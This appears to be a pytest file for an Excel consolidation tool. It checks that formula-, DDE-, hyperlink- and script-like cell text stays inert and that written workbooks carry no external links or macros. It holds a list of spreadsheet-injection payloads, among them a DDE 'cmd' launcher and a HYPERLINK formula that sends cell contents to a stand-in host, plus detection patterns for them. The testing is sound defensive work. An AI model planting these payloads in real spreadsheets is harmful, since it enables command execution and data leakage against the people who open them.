"""Text that looks like a formula, a link or DDE is text in everything that is written; nothing foreign is copied."""

from __future__ import annotations

import email
import re
import zipfile
from email import policy
from html import unescape
from pathlib import Path

import pytest

from danvan_xl.merging.consolidation import merge
from danvan_xl.model import layout
from danvan_xl.office.job import Job
from danvan_xl.office.workspace import Settings
from danvan_xl.pipeline import migrate
from danvan_xl.workbooks.consolidated.writer import write_consolidated
from tests.cases.files import FIRST, SECOND, UNIT, answer, edited, of, rezip
from tests.support.books import data
from tests.support.returned import write_returned
from tests.support.rounds import a_round, read

HOSTILE = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"xem\")", "+84 912", "-2+3", "@SUM(A1:A9)", "\t=1+1",
    "http://x.example/a", "mailto:a@b.example", "=IMPORTXML(\"http://x\",\"//a\")", "{=1}", "<script>alert(1)</script>",
    "internal:'Phụ lục I'!A1", "_x003D_1+1",
)  # fmt: skip
OURS = re.compile(r"^(?:COUNTIFS|SUM|IF|ROUND|D\d|E\d|\(|[A-Z]{1,2}\d+-)")


def formulas(path: Path) -> list[str]:
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                found += re.findall(r"<f(?: [^>]*)?>([^<]*)</f>", archive.read(name).decode("utf-8"))
    return found


COUNT = r"""^HYPERLINK\("#'[^"'!]+'![A-Z]*"&"""
"""How the count at the top of a form begins, a link inside its own workbook."""


def nothing_hostile(path: Path) -> None:
    """No formula, link, query, macro or foreign part stands in a workbook that was written."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        rels = "".join(archive.read(name).decode("utf-8") for name in names if name.endswith(".rels"))
    for part in ("externalLinks", "vbaProject", "connections", "queryTables", "customXml", "embeddings", "activeX"):
        assert not any(part in name for name in names), part
    assert 'TargetMode="External"' not in rels
    for formula in formulas(path):
        inside = re.sub(COUNT, "", unescape(formula))
        assert not re.search(r"cmd|HYPERLINK|IMPORTXML|http|\|", inside), formula


def hostile_file(folder: Path) -> Path:
    """A unit's file in which every free text is hostile, one cell is at fault, and a formula and a link live."""
    file = edited(folder, "26 doc hai.xlsx")
    lines = [line for line, values in file.round.by_unit[UNIT].items() if values.role == "Chủ trì"]
    for line, text in zip(lines, HOSTILE, strict=False):
        file.put(line, "Kết quả thực hiện", text).data_type = "s"
        file.put(line, "Giải trình", text).data_type = "s"
    file.put(FIRST, "Trạng thái", "=Cơ bản").data_type = "s"
    file.put(SECOND, "Tỷ lệ (%)", 40)
    file.cell(SECOND, "Kết quả thực hiện").hyperlink = "http://x.example/"
    extra = file.book.create_sheet("=Trang lạ")
    extra["A1"] = '=HYPERLINK("http://x.example","a")'
    extra.sheet_state = "hidden"
    file.read()
    return file.path


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return hostile_file(tmp_path)


def test_the_consolidated_workbook_holds_texts_as_texts(tmp_path: Path, path: Path) -> None:
    found = read(path, a_round())
    target = tmp_path / "tong-hop.xlsx"
    write_consolidated(target, merge(a_round(), [found]))
    nothing_hostile(target)
    assert all(OURS.match(formula) for formula in formulas(target))
    results = {row["Kết quả thực hiện"] for row in data(target)}
    for item in found.answers:
        assert item.values.get("ket_qua") in results


def test_a_migrated_template_holds_texts_as_texts(tmp_path: Path, path: Path) -> None:
    done = migrate(path, tmp_path / "moi.xlsx", Job(Settings("gia-loc", "2026-H1")))
    assert done.path is not None
    nothing_hostile(done.path)
    before, after = read(path, a_round()), read(done.path, a_round())
    assert [dict(item.values) for item in after.answers] == [dict(item.values) for item in before.answers]


def test_a_returned_workbook_marks_and_adds_no_formula(tmp_path: Path, path: Path) -> None:
    target = tmp_path / "tra-lai.xlsx"
    found = read(path, a_round())
    write_returned(path, target, found, a_round())
    own = set(formulas(path))
    added = [formula for formula in formulas(target) if formula not in own]
    assert added == []
    nothing_hostile(target)
    again = read(target, a_round())
    assert answer(again, FIRST).values["trang_thai"] == "=Cơ bản"


def test_links_macros_and_hidden_sheets_are_warned_about(path: Path) -> None:
    codes = {item.code for item in read(path, a_round()).findings}
    assert {"F053", "C008"} <= codes


TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINK = f'<Relationship Id="rIdX" Type="{TYPES}/externalLink" Target="externalLinks/externalLink1.xml"/>'
TARGET = f'<Relationship Id="rId1" Type="{TYPES}/externalLinkPath" Target="C:/a.xlsx" TargetMode="External"/>'


def test_links_to_other_files_are_warned_about_and_never_copied(tmp_path: Path) -> None:
    file = edited(tmp_path, "17 lien ket.xlsx")
    file.read()
    rezip(file.path, {"xl/_rels/workbook.xml.rels": ("</Relationships>", f"{LINK}</Relationships>")})
    folder = "xl/externalLinks"
    with zipfile.ZipFile(file.path, "a") as archive:
        archive.writestr(f"{folder}/externalLink1.xml", f'<externalLink xmlns="{MAIN}"/>')
        relations = f'<Relationships xmlns="{PACKAGE}">{TARGET}</Relationships>'
        archive.writestr(f"{folder}/_rels/externalLink1.xml.rels", relations)
    found = read(file.path, a_round())
    assert of(found, "S011")
    done = migrate(file.path, tmp_path / "moi.xlsx", Job(Settings("gia-loc", "2026-H1")))
    assert done.path is not None
    nothing_hostile(done.path)


def test_the_draft_of_the_mail_has_no_header_made_of_an_answer(tmp_path: Path) -> None:
    from danvan_xl.cli.demo import run_demo

    run_demo(tmp_path / "w", "vi")
    draft = next((tmp_path / "w").rglob("*.eml"))
    message = email.message_from_bytes(draft.read_bytes(), policy=policy.default)
    assert len(message.get_all("To", [])) == 1
    assert "\n" not in str(message["Subject"])
    assert layout.DATA not in str(message["Subject"])
